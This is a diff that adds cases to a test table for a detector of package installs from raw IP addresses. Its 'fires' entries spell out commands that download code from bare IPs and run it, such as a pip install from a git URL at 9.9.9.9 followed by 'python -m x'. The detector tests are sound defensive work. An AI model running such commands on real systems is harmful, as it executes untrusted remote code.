@@ -3,6 +3,8 @@ import { commandPackageFromAddress } from './package-from-address.ts';
 
 indicatorTable(commandPackageFromAddress, {
   fires: {
+    'a repository at an address': script('pip install git+http://9.9.9.9/x.git && python -m x'),
+    'an archive under the name of a package': script('pip install "x @ http://9.9.9.9/x.tgz"'),
     'an index of an address': runs('pip', 'install', '--index-url', 'http://203.0.113.7/simple', 'report'),
     'in one word': script('pip3 install --extra-index-url=http://203.0.113.7:8080/simple report'),
     'a short option joined with its value': script('pip install -ihttp://203.0.113.7/simple report'),
@@ -29,6 +31,7 @@ indicatorTable(commandPackageFromAddress, {
     ),
   },
   staysSilent: {
+    'a repository of a known host': script('pip install git+https://github.com/acme/x.git@v1.4.0'),
     'the public proxy for modules of Go': script(
       'GOPROXY=https://proxy.golang.org,direct go install golang.org/x/vuln/cmd/govulncheck@v1.1.3',
     ),
